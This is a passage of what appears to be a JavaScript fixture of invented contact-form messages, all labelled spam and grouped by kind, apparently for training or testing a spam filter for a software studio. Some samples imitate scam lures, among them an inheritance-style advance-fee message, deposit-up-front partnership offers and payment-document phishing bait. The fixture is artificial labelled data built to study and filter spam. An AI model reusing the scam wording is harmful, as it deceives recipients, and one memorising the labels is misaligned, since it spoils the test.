    kind: 'cold-ai',
    message: {
      name: 'Gareth Long',
      email: 'gareth@tenderwatch.example',
      phone: '020 7946 0172',
      company: 'TenderWatch',
      message:
        "Hello, in the last 30 days 61 public tenders were published which match what Solvane does (AI, mobile apps, cloud). Deadlines on 14 of these are still open. I'm happy to send three of the best fitting for free so you can see the quality of our alerts. Which regions are you interested in?",
    },
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Mina Sorensen',
      email: 'mina@employerly.example',
      phone: '+45 55 50 12 77',
      company: 'Employerly',
      message:
        "Hi! I came across your careers page and really liked the tone, it's warm without being cheesy. One thing: applicants on mobile need 14 taps to apply. We've a tiny tool that makes it 3. Would it be helpful if I showed you on your own page? Takes about 8 minutes.",
    },
    fillMs: 1731,
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Jonathan Reyes',
      email: 'jonathan@cloudcredits-partner.example',
      phone: '+1 555 0146',
      company: '',
      message:
        "Solvane team - many AWS partners of your size leave funding on the table. Between migration credits and proof of concept funding, our clients secure 25-100k per project which your customers don't have to pay. I noticed you do migrations. May I ask if you're already enrolled? If not I can walk you through it, it's less paperwork than you'd think.",
    },
    fillMs: 44267,
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Priscilla Ng',
      email: 'priscilla@lumenlocalise.example',
      phone: '+65 5550 0118',
      company: 'Lumen Localise',
      message:
        "Dear Solvane, your English site is excellent, the other language version reads a little translated in places (for instance on the services page). As native linguists specialised in software, we'd love to offer a free review of one page of your choosing. If you find it useful we can talk about the rest.",
    },
    fillMs: 58614,
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Oscar Brandt',
      email: 'oscar@quietclose.test',
      phone: '555 0183',
      company: '',
      message:
        "Three questions, feel free to ignore.\n1) How many of last year's proposals never got an answer?\n2) Does anyone follow up on them?\n3) If not, what's 10% of them worth?\n\nWe revive dead proposals for software studios, on commission only. Reply 'dead' and I'll explain.",
    },
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Lydia Marsh',
      email: 'lydia@culturepulse.example',
      phone: '555 0149',
      company: 'CulturePulse',
      message:
        'Hi there, I know that small technical teams often lose their best people quietly. I looked at your team page and thought: these are precisely the kind of people recruiters call weekly. CulturePulse asks one anonymous question every Friday and tells you who may be at risk. Could I give you a three month pilot for up to 25 people, on us?',
    },
    fillMs: 36073,
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Frederik Nass',
      email: 'frederik@nass-ventures.example',
      phone: '+49 40 555 0173',
      company: 'Nass Ventures',
      message:
        "Hello, we're building a portfolio of B2B SaaS tools and are looking for a technology partner who would take part of the payment in equity. Solvane's experience with smart contracts would be a significant plus. There are three ventures in the pipeline, all with committed pilot customers. Before going into detail: partners join with a refundable onboarding deposit of 4,900 EUR. Open for a call?",
    },
    fillMs: 63869,
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Bella Norton',
      email: 'bella@scopewise.example',
      phone: '+1 555 0187',
      company: 'ScopeWise',
      message:
        "I'm guessing scope creep isn't the reason you started Solvane ;) We asked 212 dev agencies and the average one gives away 19 hours per project. ScopeWise reads your client emails and flags out-of-scope requests automatically. Since you're AI folks yourselves I'd honestly value your feedback. Can I send you a login?",
    },
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Michael Trent',
      email: 'michael.trent@execmastery.test',
      phone: '555 0192',
      company: '',
      message:
        "Hi, I was impressed by your founder's journey. I run a closed mastermind for tech CEOs (7 figures and up). We lost one member last month as he sold his company, so a seat has opened. We only invite people we'd like to learn from. Would you like the one-pager with dates and the investment?",
    },
    fillMs: 19567,
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Ruth Calder',
      email: 'ruth@patentpath.example',
      phone: '020 7946 0130',
      company: 'PatentPath',
      message:
        "Dear Solvane, software companies often assume their inventions aren't patentable. Reading about your work on document recognition, I suspect there may be at least one protectable method. We offer a complimentary invention harvest session of one hour. Would your CTO be the right person to invite?",
    },
    fillMs: 40443,
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Dominic Vale',
      email: 'dominic@valeoutreach.test',
      phone: '555 0153',
      company: 'Vale Outreach',
      message:
        "Saw you did that ordering portal. Smart. There are 340 wholesalers within 200 km of you who look just like that client and have no portal. I've the list, the names and a four step sequence ready. Want me to send you the first 10 for free? If they are rubbish, tell me.",
    },
    fillMs: 1211,
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Emma Lacey',
      email: 'emma@lacey-ux.example',
      phone: '+44 1632 960900',
      company: 'Lacey UX',
      message:
        "Hi Solvane folks, I'm a UX researcher and I tested your contact journey with five people for a talk I'm giving. Two of them hesitated at the phone field. Nice site otherwise! I could run the same on one of your client projects, from 1,200 a round. Should I share the clips?",
    },
    fillMs: 71872,
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Noah Kessler',
      email: 'noah@agentloop-ai.example',
      phone: '555 0111',
      company: 'AgentLoop',
      message:
        "Hi, this message was written by an AI agent that read your website, found your services, and decided you'd benefit. It took 11 seconds. Imagine 500 of these a day going to your ideal customers. That's what we do for agencies. Reply and a human will answer.",
    },
    fillMs: 714,
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Patrice Lemoine',
      email: 'patrice@euro-subventions.example',
      phone: '+33 1 55 50 01 99',
      company: 'Euro Subventions',
      message:
        "Dear Solvane, a new Horizon call on trustworthy AI for SMEs closes in eleven weeks and the consortium we're assembling lacks an implementation partner. Your profile seems a remarkable match. Funding rate is 70%. Participation in the preparation requires a contribution of 3,500 EUR toward the proposal writing. May I forward the summary?",
    },
    fillMs: 50635,
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Hugo Lind',
      email: 'hugo@lindchat.example',
      phone: '+46 8 555 01 62',
      company: 'Lindchat',
      message:
        "Hello! I visited your site at 9pm yesterday with a question and there was nobody to ask. I get that you build chatbots, the shoemaker's children and so on! Our live chat team replies 24/7 in your name, from 149 EUR a month, and only real leads get passed on. Fancy a two week test?",
    },
    fillMs: 33885,
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Tara Simmons',
      email: 'tara@giftable.test',
      phone: '555 0165',
      company: 'Giftable',
      message:
        "With the holidays approaching I wanted to ask how Solvane says thanks to clients. We curate small gift boxes by local producers and handle addresses, cards and customs. Last year we did 80 boxes for a studio much like yours and their renewals call started with 'thanks for the honey!'. May I send the lookbook?",
    },
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Leonard Fuchs',
      email: 'l.fuchs@fuchs-factoring.example',
      phone: '+49 69 555 0154',
      company: 'Fuchs Finance',
      message:
        'Hello, project companies like Solvane frequently pre-finance two or three months of salaries before the customer pays. We bridge it with invoice financing from 0.9% without personal guarantees. A comparable agency raised its growth by 30% with us. Would a non-binding calculation be useful to you?',
    },
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Zoe Hart',
      email: 'zoe@storyframe.example',
      phone: '+1 555 0104',
      company: 'Storyframe',
      message:
        "Loved your case study about the hospital scheduling. But can I be honest? It's told from your point of view, not the nurse's. We film 90-second customer stories that do exactly that. Our crew happens to be near you from the 8th to the 12th so there'd be no travel cost. Worth a chat?",
    },
    fillMs: 37948,
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Ben Ashdown',
      email: 'ben@ashdown-pricing.test',
      phone: '555 0122',
      company: '',
      message:
        'Hi - you quote fixed price and T&M, right? I spent 6 years at a big consultancy doing nothing but pricing. Most studios undercharge by around 20% and their clients know it. I do a 90 minute teardown of three past proposals for 750, refunded if you learn nothing. Shall I hold a slot for you?',
    },
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Samantha Bligh',
      email: 'samantha@hrcompass.example',
      phone: '+44 20 7946 0185',
      company: 'HR Compass',
      message:
        "Dear Solvane team, with the new rules on pay transparency approaching, even companies below 100 staff will have to answer employee requests. I put together a short checklist for tech companies and I'd be glad to share it with your HR lead. Who would that be?",
    },
    fillMs: 28005,
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Viktor Hale',
      email: 'viktor@hale-ir.example',
      phone: '+1 555 0159',
      company: 'Hale Capital Intro',
      message:
        'Hello, having followed the blockchain services market since 2017, I believe Solvane is at an inflection point. Our network includes 140 family offices looking for exposure to applied AI. We make introductions on a success basis (plus a small preparation fee). Are you considering outside capital over the next 12 months?',
    },
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Gemma',
      email: 'gemma@firstline-reception.example',
      phone: '020 7946 0153',
      company: 'Firstline',
      message:
        "I rang your main number twice this week just to see, and both times it went to voicemail. No judgement, you're busy building! But one in three callers won't leave a message. Our receptionists in Cardiff answer as 'Solvane' and text you the details. Free for 14 days. Shall I set it up?",
    },
    fillMs: 34905,
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Philip Moor',
      email: 'philip@moor-compliance.example',
      phone: '555 0127',
      company: 'Moor Compliance',
      message:
        "Noticed ISO 27001 isn't among the certificates on your site (sorry if I've overlooked it). Enterprise buyers increasingly filter vendors by it in the very first round. We bring companies with 10 to 60 people to certification in 14 weeks at a fixed price. Would you be interested in a gap check?",
    },
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Ella Frost',
      email: 'ella@frostnewsletter.test',
      phone: '555 0193',
      company: 'Cloud Weekly',
      message:
        "Hi team, I edit Cloud Weekly, a newsletter read by 38,000 engineering managers. I've been wanting to feature a hands-on company and you'd be a great fit between our regular pieces. The slots run at $1,100 but I have a last-minute cancellation for next Tuesday at half price. Let me know today?",
    },
    fillMs: 22203,
  },
  {
    label: 'spam',
    kind: 'cold-ai',
    message: {
      name: 'Malik Johnson',
      email: 'malik@partnerstack-agency.example',
      phone: '+1 555 0160',
      company: '',
      message:
        "Hi there. We run marketing for 30 e-commerce brands, none of which we build sites for. They ask constantly. I'd rather send them to someone good. We only charge 15% on closed projects plus a listing fee of $300 per quarter. Could Solvane take on two or three a month?",
    },
    fillMs: 975,
  },
  {
    label: 'spam',
    kind: 'bait',
    message: {
      name: 'Thomas',
      email: 'thomas.h@mail.test',
      phone: '555 0125',
      company: '',
      message: 'Hello, do you offer discounts?',
    },
  },
  {
    label: 'spam',
    kind: 'bait',
    message: {
      name: 'Angela Ray',
      email: 'angela.ray@inbox.test',
      phone: '555 0140',
      company: '',
      message: 'I visited your website and have one important question for the manager. What email can I use?',
    },
  },
  {
    label: 'spam',
    kind: 'bait',
    message: {
      name: 'Victor',
      email: 'victor.n@mail.invalid',
      phone: '+44 555 0150',
      company: '',
      message: 'Do you have 5 minutes today',
    },
    fillMs: 2854,
  },
  {
    label: 'spam',
    kind: 'bait',
    message: {
      name: 'Susan',
      email: 'susan77@mail.example',
      phone: '555 0185',
      company: '',
      message:
        'Hello, I would like to order from you. Do you accept payment by card and do you ship by my own freight agent? Get back to me with your direct cell.',
    },
    fillMs: 17874,
  },
  {
    label: 'spam',
    kind: 'bait',
    message: {
      name: 'Chris',
      email: 'chris@inbox.test',
      phone: '5550166',
      company: '',
      message: 'Hi. Is this still your website?',
    },
  },
  {
    label: 'spam',
    kind: 'bait',
    message: {
      name: 'Barr. Thompson',
      email: 'barr.thompson@mail.invalid',
      phone: 'none',
      company: '',
      message:
        'Attn: Director, I have contacted you in regards to a late client who bears relation to your company name. Urgent and confidential. Reply to my private mail.',
    },
  },
  {
    label: 'spam',
    kind: 'bait',
    message: {
      name: 'Julia',
      email: 'julia_kiss@mail.test',
      phone: '-',
      company: '',
      message: 'hi, i saw your photo on the site and i like you. write me',
    },
    fillMs: 940,
    fromAddress: 10,
  },
  {
    label: 'spam',
    kind: 'bait',
    message: {
      name: 'Mr Chen',
      email: 'chen.lin@mail.example',
      phone: '+86 5550 0103',
      company: '',
      message:
        'We are interested in long term cooperation with your esteemed company. Please reply for company introduction.',
    },
  },
  {
    label: 'spam',
    kind: 'bait',
    message: {
      name: 'Patrick W.',
      email: 'patrickw@mail.example',
      phone: '555 0113',
      company: '',
      message: 'Would it be ok if I sent over some pricing?',
    },
  },
  {
    label: 'spam',
    kind: 'bait',
    message: {
      name: 'Dora',
      email: 'dora@inbox.test',
      phone: '555 0180',
      company: '',
      message: 'can I get a quote',
    },
    sameText: 35,
  },
  {
    label: 'spam',
    kind: 'bait',
    message: {
      name: 'Eric',
      email: 'eric@mail.example',
      phone: '555 0119',
      company: '',
      message:
        "Cool website! My name's Eric and I just found your site while surfing the net. Quick question... what happens after somebody lands here?",
    },
  },
  {
    label: 'spam',
    kind: 'bait',
    message: {
      name: 'Lucas',
      email: 'lucas.b@inbox.test',
      phone: '555 0172',
      company: '',
      message: 'Looking for a reliable IT partner, our budget is open. Add me on Telegram and I explain everything.',
    },
    fillMs: 25673,
  },
  {
    label: 'spam',
    kind: 'bait',
    message: {
      name: 'Helen',
      email: 'helen.m@mail.test',
      phone: '+1 555 0181',
      company: '',
      message:
        'Good evening. I sent you a document regarding the payment, please confirm by mail that you received it.',
    },
  },
  {
    label: 'spam',
    kind: 'bait',
    message: {
      name: 'Omar',
      email: 'omar.trade@mail.test',
      phone: '+971 555 0150',
      company: '',
      message: 'Project funding available for your company at 3% per year. Reply if interested',
    },
    fillMs: 16747,
  },
  {
    label: 'spam',
    kind: 'seo',
    message: {
      name: 'Marina',
      email: 'marina@techpostnow.test',
      phone: '555 0134',
      company: 'TechPostNow',
      message:
        "Hi, I'm a freelance tech writer and regular reader of your blog. I'd love to contribute an original piece on edge AI. No payment needed. I'd only include one natural reference to a resource I find useful. Here are two recent samples: https://techpostnow.example/a and https://techpostnow.example/b",
    },
    fillMs: 30199,
  },
  {
    label: 'spam',
    kind: 'seo',
    message: {
      name: 'Gavin Pope',
      email: 'gavin@popedigital.example',
      phone: '020 7946 0115',
      company: 'Pope Digital',
      message:
        "Did a bit of digging. Your domain has 212 referring domains, your nearest rival 1,460. That gap is the whole reason they outrank you for 'custom software development'. We do digital PR (real journalists, no farms). Two placements free as a trial if you're up for it?",
    },
  },
  {
    label: 'spam',
    kind: 'seo',
    message: {
      name: 'Link Team',
      email: 'team@nicheedits.test',
      phone: 'none',
      company: '',
      message:
        'We have 4200 sites, DR 30-80, price from 25$. Sheet attached by request. Also we buy links at yours. Exchange 3-way possible.',
    },
  },
  {
    label: 'spam',
    kind: 'seo',
    message: {
      name: 'Farah',
      email: 'farah@mail.test',
      phone: '+92 555 0119',
      company: '',
      message:
        'Hello sir, I can give you guest post on high authority tech sites dofollow permanent google news approved. Tell me your budget. Also do you sell posts on yours?',
    },
  },
  {
    label: 'spam',
    kind: 'seo',
    message: {
      name: 'Neil Brady',
      email: 'neil@mapspack.example',
      phone: '555 0163',
      company: '',
      message:
        "Hi, your Google business listing isn't fully verified and it shows the wrong hours on some devices. We can correct this and get you into the local 3-pack. One time $249. Reply with OK to begin",
    },
    fillMs: 1325,
  },
  {
    label: 'spam',
    kind: 'seo',
    message: {
      name: 'Sonja Eder',
      email: 'sonja@contentpartner.example',
      phone: '+43 1 555 0171',
      company: 'Content Partner',
      message:
        "Good day, on behalf of a customer from the energy sector we're looking for editorial websites with IT topics. Could you publish a text of 600 words with a link (no labelling as advertising desired)? What would your conditions be for 12 or 24 months?",
    },
    fillMs: 39015,
  },
  {
    label: 'spam',
    kind: 'seo',
    message: {
      name: 'Peggy',
      email: 'peggy@dircloud.test',
      phone: '555 0109',
      company: 'DirCloud',
      message:
        'Your company is missing from our directory of the best app developers. Basic listing is free, we only ask for a badge with link in your footer. 3,000 companies already joined: https://dircloud.example/add',
    },
  },
  {
    label: 'spam',
    kind: 'seo',
    message: {
      name: 'Arthur Finn',
      email: 'arthur@ppcsurgeon.example',
      phone: '+1 555 0126',
      company: 'PPC Surgeon',
      message:
        "I searched for app development just now and saw your competitors' ads but none from Solvane. Might be deliberate. If it's not, we manage Google Ads for 9 software houses and their cost per inquiry is about 61 dollars. Happy to give you the keyword list we use. Who looks after ads on your end?",
    },
    fillMs: 2790,
  },
  {
    label: 'spam',
    kind: 'seo',
    message: {
      name: 'Dilnoza',
      email: 'dilnoza@backlinkbazaar.test',
      phone: '555 0155',
      company: '',
      message:
        'Dear admin. Your article about smart contract is good but is not indexed well. I increase traffic 10 000 real visitors from Google USA/EU monthly, AdSense safe. Price $89. Test free 1000 visitors.',
    },
  },
  {
    label: 'spam',
    kind: 'seo',
    message: {
      name: 'Rupert',
      email: 'rupert@infographicly.test',
      phone: '555 0174',
      company: '',
      message:
        'Hey, we made an infographic about the history of mobile apps (1994-2025). Would you like to share it with your readers? I can write a unique intro of 250 words to go along with it, no charge, just credit us.',
    },
    fillMs: 22952,
  },
  {
    label: 'spam',
    kind: 'seo',
    message: {
      name: 'Yuri',
      email: 'yuri@trafficwave.invalid',
      phone: '555 0100',
      company: '',
      message:
        'XRumer + GSA blast, premium base, raise your DR to 50+ in 21 day guaranteed or money back https://trafficwave.invalid/?r=solv',
    },
    fillMs: 522,
    fromAddress: 60,
  },
  {
    label: 'spam',
    kind: 'outsourcing',
    message: {
      name: 'Deepak Nair',
      email: 'deepak@zenithcode.example',
      phone: '+91 484 5550 0136',
      company: 'ZenithCode',
      message:
        "Hi, I know you receive such mails daily, so just facts: 85 engineers in Kochi, 9 agency partners in the Nordics, longest runs since 2015, overlap until 17:00 CET, rates 22 to 34 EUR. References call possible with two of them. If you've a small piece of backlog nobody likes, try us on that.",
    },
    fillMs: 1823,
  },
  {
    label: 'spam',
    kind: 'outsourcing',
    message: {
      name: 'Emily Stone',
      email: 'emily.stone@webrevamp.test',
      phone: '555 0147',
      company: '',
      message:
        "Hello,\nWe have gone through your website and observed that it's not mobile friendly and is loading slow. We can re-design it in WordPress or Shopify with attractive look.\nIf interested, share your phone number and good time to call.\nThanks, Emily Stone, Web Consultant",
    },
  },
  {
    label: 'spam',
    kind: 'outsourcing',
    message: {
      name: 'Ivana',
      email: 'ivana@balkandev.example',
      phone: '+381 11 555 0170',
      company: 'BalkanDev',
      message:
        "Hi there, two of our React Native developers became available unexpectedly since a client lost funding. They've worked together for four years and I'd hate to split them. Would Solvane have something from December? I can send the profiles plus a code sample.",
    },
    fillMs: 45259,
  },
  {
    label: 'spam',
    kind: 'outsourcing',
    message: {
      name: 'Ahmed Raza',
      email: 'ahmed@logoartisan.test',
      phone: '+92 555 0121',
      company: 'Logo Artisan',
      message:
        'Hello business owner, i saw your logo and i think it can be improved. I make you 3 concepts for free, you pay only if you like ($49). Also business card, brochure, video animation.',
    },
  },
  {
    label: 'spam',
    kind: 'outsourcing',
    message: {
      name: 'Mina Tadros',
      email: 'mina@cairodevs.example',
      phone: '+20 2 5550 0148',
      company: 'CairoDevs',
      message:
        "Greetings from Cairo. We provide nearshore teams in the same time zone as Central Europe, Arabic, English and French speaking. QA engineers from 14 EUR, developers from 19 EUR. Could we be added to your vendor list? I'll gladly fill in any onboarding form.",
    },
    fillMs: 33754,
  },
  {
    label: 'spam',
    kind: 'outsourcing',
    message: {
      name: 'Rohit',
      email: 'rohit@mail.test',
      phone: '+91 5550 0190',
      company: '',
      message:
        'we do ui ux, react, nextjs, ai chatbot, blockchain, dapp, nft marketplace, crypto exchange, game. low price high quality. reply for portfolio link',
    },
  },
  {
    label: 'spam',
    kind: 'outsourcing',
    message: {
      name: 'Stella Moraes',
      email: 'stella@talento-remoto.example',
      phone: '+55 11 5550 0133',
      company: 'Talento Remoto',
      message:
        'Hi Solvane! Hiring in Europe is slow right now, most roles take 62 days. We place Brazilian senior engineers in 9. You interview, we take care of contracts and hardware. If you could only add one role this month, which would it be?',
    },
  },
  {
    label: 'spam',
    kind: 'outsourcing',
    message: {
      name: 'Pawel',
      email: 'pawel@testhouse-krk.example',
      phone: '+48 12 555 0144',
      company: 'TestHouse',
      message:
        "Do you have dedicated testers? On your case study page I couldn't find QA mentioned, which either means it's so natural you don't mention it, or it's done by developers. We offer testing as a service by the hour. First 16 hours are on us so you can see our bug reports.",
    },
    fillMs: 2564,
  },
  {
    label: 'spam',
    kind: 'outsourcing',
    message: {
      name: 'Quang',
      email: 'quang@ai-annotators.test',
      phone: '+84 5550 0109',
      company: '',
      message:
        'Dear manager, we are Vietnam game & app studio, 3D art, Unity, Unreal, AR/VR. Price only 1/3 of EU. We want become your partner for long time. Please give me your Zalo or Whatsapp',
    },
    fillMs: 27151,
  },
  {
    label: 'spam',
    kind: 'outsourcing',
    message: {
      name: 'Heather Quinn',
      email: 'heather@freshcoatweb.test',
      phone: '+1 555 0168',
      company: 'Fresh Coat Web',
      message:
        "I hope you don't mind me being direct. I pulled up your homepage next to three competitors and asked my designer which he'd trust with a 100k project. He didn't pick yours. I've a mockup of what it could look like. Want to see it?",
    },
    fillMs: 1608,
  },
  {
    label: 'spam',
    kind: 'outsourcing',
    message: {
      name: 'Nils Berger',
      email: 'n.berger@freelance-pool.example',
      phone: '+49 221 555 0158',
      company: 'Freelance Pool',
      message:
        'Hello, current availability list of our freelancers: SAP BTP (95 EUR), Java Senior (82 EUR), Azure Architect (104 EUR), Scrum Master (90 EUR), ML Engineer (98 EUR). All German speaking, remote or Cologne area. Please let me know your current demand.',
    },
  },
  {
    label: 'spam',
    kind: 'outsourcing',
    message: {
      name: 'Gulnara',
      email: 'gulnara@steppe-it.example',
      phone: '+7 727 555 0139',
      company: 'Steppe IT',
      message:
        "Good day! Our company in Almaty is resident of the tech park and doesn't pay VAT, so our prices are attractive. We can execute whole projects by your brand. 12 blockchain devs. Would your technical director be ready for acquaintance online?",
    },
    fillMs: 38864,
  },
  {
    label: 'spam',
    kind: 'outsourcing',
    message: {
      name: 'Kabir',
      email: 'kabir@codebrigade.test',
      phone: '+91 5550 0157',
      company: 'CodeBrigade',
      message:
        'Hello, wanted to check if you got a chance to see my previous message regarding dedicated developers? We have a Diwali offer: hire 2 developers get a tester free for first month. Please advise.',
    },
    sameText: 8,
    fromAddress: 11,
  },
  {
    label: 'spam',
    kind: 'outsourcing',
    message: {
      name: 'Lara Finch',
      email: 'lara@motionpeach.example',
      phone: '555 0197',
      company: 'Motion Peach',
      message:
        'We design pitch decks, UI animations and landing pages for a flat monthly fee, unlimited requests, pause anytime. Agencies use us as their silent design department. Seeing that Solvane is heavy on engineers (in a good way), thought you might like a free screen to try us.',
    },
    fillMs: 1989,
  },
  {
    label: 'spam',
    kind: 'outsourcing',
    message: {
      name: 'Tomasz',
      email: 'tomasz@mail.test',
      phone: '+48 555 018 133',
      company: '',
      message:
        "Hi, I'm senior PHP/Symfony dev, 12 yrs, looking for B2B contract, can start now, 35 eur/h. My github https://git.example/tomasz-s . I'm sending this to some 200 companies so excuse impersonal tone.",
    },
    fillMs: 29525,
    sameText: 3,
  },
  {
    label: 'spam',
    kind: 'outsourcing',
    message: {
      name: 'Web Studio',
      email: 'hello@quickpagez.test',
      phone: '555 0105',
      company: 'Quickpagez',
      message:
        'New website in 5 days for 299! No hidden cost! Free domain, free hosting 1 year, free logo. Only this week. Over 9000 happy customers. https://quickpagez.example',
    },
    fillMs: 494,
  },
  {
    label: 'spam',
    kind: 'outsourcing',
    message: {
      name: 'Meera Joshi',
      email: 'meera@ecomexperts.example',
      phone: '+91 22 5550 0164',
      company: 'Ecom Experts',
      message:
        "Hi Solvane, do you get Shopify or Magento inquiries that are too small for you? We'd take these off your hands, white label, and you keep 30%. There are 14 of us and eight are certified. Could I share a rate card?",
    },
    fillMs: 32246,
  },
  {
    label: 'spam',
    kind: 'leads',
    message: {
      name: 'Rick Sanders',
      email: 'rick@hotlead-ai.test',
      phone: '+1 555 0108',
      company: 'HotLead AI',
      message:
        "There's a company looking for an AI chatbot developer within 50 miles of you right now. We have their name, phone and budget. First lead is free, after that $85 each. Where do I send it?",
    },
    fillMs: 2172,
  },
  {
    label: 'spam',
    kind: 'leads',
    message: {
      name: 'Claire Dupuis',
      email: 'claire@rdv-qualifies.example',
      phone: '+33 1 55 50 01 33',
      company: 'RDV Qualifiés',
      message:
        'Good morning, we set up qualified appointments with IT directors of French companies (200 to 2,000 employees). Our telephone team knows software projects. 12 appointments guaranteed for 3,900 EUR. May I call you on Thursday about it?',
    },
  },
  {
    label: 'spam',
    kind: 'leads',
    message: {
      name: 'Data Desk',
      email: 'counts@prospectgrid.test',
      phone: '555 0171',
      company: '',
      message:
        'Hi, are you targeting Healthcare / Manufacturing / BFSI decision makers? We can provide opt-in email list 2025 updated, 95% deliverable. Tell me titles + region and I send 20 sample records.',
    },
  },
  {
    label: 'spam',
    kind: 'leads',
    message: {
      name: 'Joel',
      email: 'joel@dmwizard.test',
      phone: '555 0152',
      company: '',
      message:
        'we send 1500 linkedin messages a month from 5 profiles that look like yours, you only talk to the ones who answer. 3 agencies like you at 20+ calls. down for a quick look?',
    },
    fillMs: 2864,
  },
  {
    label: 'spam',
    kind: 'leads',
    message: {
      name: 'Monique Baptiste',
      email: 'monique@tradeshowdata.example',
      phone: '+1 555 0143',
      company: 'Tradeshow Data',
      message:
        "Hello, I'm reaching out to check whether Solvane is exhibiting at or attending the AI & Big Data Summit. The attendee list (7,212 contacts) is available this week at a reduced price. Would you like me to share the cost and the breakdown by job title?",
    },
  },
  {
    label: 'spam',
    kind: 'leads',
    message: {
      name: 'Howard',
      email: 'howard@rfp-feed.test',
      phone: '555 0190',
      company: 'RFP Feed',
      message:
        "A state agency published a $2.1M mobile app RFP this morning. Are you bidding? Our members received it at 7am with a summary and the incumbent's price. Membership $59/mo, cancel anytime. https://rfp-feed.example/join",
    },
    fillMs: 21377,
  },
  {
    label: 'spam',
    kind: 'leads',
    message: {
      name: 'Nadine Krol',
      email: 'nadine@sdr-on-demand.example',
      phone: '+31 20 555 0149',
      company: 'SDR on Demand',
      message:
        'Hi, hiring an SDR costs about 65k a year and most leave after 14 months. Ours cost 2,400 a month, speak Dutch, German and English and start within 10 days. I thought of Solvane since your team page shows no sales people at all (refreshing!). Worth exploring?',
    },
    fillMs: 43650,
  },
  {
    label: 'spam',
    kind: 'leads',
    message: {
      name: 'Tyler',
      email: 'tyler@mail.test',
      phone: '+1 555 0117',
      company: '',
      message:
        'Quick one. If I dropped 5 booked calls in your calendar by the end of next week would you show up? Pay only if they close. Yes or no is fine.',
    },
    fillMs: 2307,
  },
  {
    label: 'spam',
    kind: 'leads',
    message: {
      name: 'Samira Bouzid',
      email: 'samira@euroleads.example',
      phone: '+33 4 55 50 01 82',
      company: 'EuroLeads',
      message:
        "Dear Solvane team, our portal receives about 300 project requests for websites and apps every month. Providers like you can unlock a request from 19 EUR. I've three open ones in your field at present: booking app (15-20k), ERP interface (8k), company website (5k). Shall I open an account for you?",
    },
    fillMs: 35859,
  },
  {
    label: 'spam',
    kind: 'leads',
    message: {
      name: 'Bill Overton',
      email: 'bill@installbase-intel.test',
      phone: '555 0178',
      company: '',
      message:
        "Following up on my previous email, kindly let me know if you'd be interested in Companies using Ethereum, Hyperledger, Polygon database for your marketing campaigns? Regards Bill, Marketing Executive. If not interested reply 'Leave out'",
    },
  },
  {
    label: 'spam',
    kind: 'leads',
    message: {
      name: 'Carmen Ortiz',
      email: 'carmen@coldvideo.test',
      phone: '555 0164',
      company: '',
      message:
        "I recorded a video for Solvane. It's 47 seconds. It shows the exact message that brought a software studio 9 meetings with hospital CIOs: https://vid.coldvideo.example/solvane-47",
    },
    fillMs: 1150,
  },
  {
    label: 'spam',
    kind: 'cold-software',
    message: {
      name: 'Dean Fowler',
      email: 'dean@utilityswitch.example',
      phone: '020 7946 0104',
      company: 'Utility Switch',
      message:
        "Good afternoon, I'm calling round businesses in your postcode as energy contracts are about to go up. When does yours end? With your MPAN I can give you a price on the spot, no obligation.",
    },
    fillMs: 19381,
  },
  {
    label: 'spam',
    kind: 'cold-software',
    message: {
      name: 'Rosie',
      email: 'rosie@deskfruit.example',
      phone: '020 7946 0193',
      company: 'Deskfruit',
      message:
        "Hi team, we bring fresh fruit, oat milk and proper coffee to offices near you. As a hello we'd love to drop a free tasting box at Solvane next Wednesday. How many of you are in on Wednesdays, and any allergies?",
    },
    fillMs: 31145,
  },
  {
    label: 'spam',
    kind: 'cold-software',
    message: {
      name: 'Karl Weiss',
      email: 'karl@docuvault.example',
      phone: '+49 711 555 0133',
      company: 'DocuVault',
      message:
        "Hello, is your e-mail archiving audit-proof? Since many of the common cloud mailboxes don't fulfil the retention duties on their own, we offer DocuVault from 3.90 EUR per mailbox. In an online demo of 20 minutes I show you how it works. Suggested: Tuesday 10:00.",
    },
  },
  {
    label: 'spam',
    kind: 'cold-software',
    message: {
      name: 'Amy Chu',
      email: 'amy.chu@pcb-brightvia.test',
      phone: '+86 755 5550 0122',
      company: 'Brightvia Electronics',
      message:
        'Dear friend, Have a nice day! We are manufacturer of PCB, PCBA, IoT module, GPS tracker, smart POS terminal. I see you make app so maybe your client need hardware. We can do OEM/ODM. Send me your inquiry I will offer best price within 12 hours.',
    },
  },
  {
    label: 'spam',
    kind: 'cold-software',
    message: {
      name: 'Greg Palmer',
      email: 'greg@leadershiplab.example',
      phone: '+1 555 0131',
      company: 'Leadership Lab',
      message:
        'First-time managers are usually your best engineers, promoted without any training. Our 6 week cohort starts on the 9th and we hold four places for companies below 50 staff at $890 rather than $1,490. Who at Solvane became a team lead recently?',
    },
  },
  {
    label: 'spam',
    kind: 'cold-software',
    message: {
      name: 'Oksana',
      email: 'oksana@smsblaster.test',
      phone: '555 0182',
      company: 'SMSBlaster',
      message:
        'Bulk SMS & WhatsApp & voice OTP routes, 190 countries, EU 0.018, direct connection, free test 100 sms. Telegram for price list',
    },
    sameText: 11,
  },
  {
    label: 'spam',
